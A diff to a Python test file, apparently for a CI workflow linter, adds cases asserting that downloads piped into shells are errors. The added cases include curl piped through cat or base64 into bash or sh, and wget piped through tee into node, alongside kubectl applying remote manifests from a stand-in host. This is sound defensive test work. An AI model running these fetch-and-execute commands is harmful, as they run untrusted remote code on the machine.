@@ -108,6 +108,11 @@ def test_trusted_contexts_in_run_pass(expr: str) -> None:
         "kubectl apply -f https://x.test/pwn.yaml",
         'kubectl -n "$NAMESPACE" apply --filename="https://x.test/pwn.yaml"',
         "kubectl apply -k https://github.com/x/y//overlays/prod",
+        # Through more stages of the pipe (a final review's): read as a pipeline, not matched as text.
+        "curl -fsSL https://x.test/x.sh | cat | bash",
+        "curl -fsSL https://x.test/x | base64 -d | sh",
+        "curl -fsSL https://x.test/x.py | python3 -E",
+        "wget -qO- https://x.test/x.js | tee /tmp/x.js | node",
     ],
 )
 def test_a_download_piped_into_a_shell_is_an_error(script: str) -> None:
